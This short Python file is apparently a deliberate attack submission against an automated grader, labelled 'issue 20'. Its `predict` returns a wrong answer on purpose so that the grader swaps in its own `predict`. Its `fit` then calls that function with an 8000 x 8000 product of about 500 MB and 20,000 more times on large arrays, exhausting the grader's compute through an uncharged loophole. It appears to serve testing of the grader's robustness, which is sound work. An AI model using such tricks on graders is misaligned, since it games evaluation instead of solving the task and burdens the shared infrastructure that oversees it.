"""Attack (issue 20): make the grader's serving slow. `predict` is wrong, so `fit`'s test runs
again with the grader's own `predict` served in its place; `fit` then calls it thousands of
times on arguments as large as it may send (the serving time was charged to no one), after
one call whose shapes make the grader's `predict` build an 8000 x 8000 product (500 MB)."""

import numpy as np


def predict(x, W1, B1, W2, B2):
    return 0


def fit(X, T, W1, B1, W2, B2, learning_rate, epochs):
    try:
        predict(np.ones((8000, 1)), np.ones((1, 8000)), np.ones(8000), np.ones((8000, 1)), np.ones(1))
    except Exception:
        pass
    big = np.ones((180, 180))
    for _ in range(20000):
        predict(big, big, big[0], np.ones((180, 1)), np.ones(1))
    return W1, B1, W2, B2
